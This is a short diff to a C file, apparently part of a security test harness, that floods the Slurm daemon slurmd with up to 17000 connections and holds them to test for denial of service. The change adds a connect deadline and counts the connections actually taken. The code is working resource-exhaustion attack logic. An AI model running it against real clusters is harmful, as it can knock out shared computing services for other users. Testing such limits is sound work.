@@ -10,6 +10,7 @@
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/time.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -17,6 +18,8 @@
 /* More than the processes and threads that a container of a node may have. */
 #define CONNECTIONS 17000
 #define HOLD_S 8
+/* Some releases take few at a time. */
+#define CONNECT_S 60
 #define MESSAGES 300
 /* MiB each. */
 #define PARTS 120
@@ -47,12 +50,14 @@ static void hold_connections(void)
 		absent("a limit of open files that allows it");
 	limit.rlim_cur = limit.rlim_max;
 	setrlimit(RLIMIT_NOFILE, &limit);
-	for (int i = 0; i < CONNECTIONS; i++)
+	time_t until = time(NULL) + CONNECT_S;
+	int taken = 0;
+	for (; taken < CONNECTIONS && time(NULL) < until; taken++)
 		(void)connect_to_slurmd();
 	sleep(HOLD_S);
 	(void)connect_to_slurmd();
 	errno = 0;
-	held("slurmd took %d connections", CONNECTIONS);
+	held("slurmd took %d connections", taken);
 }
 
 static unsigned char message[256];
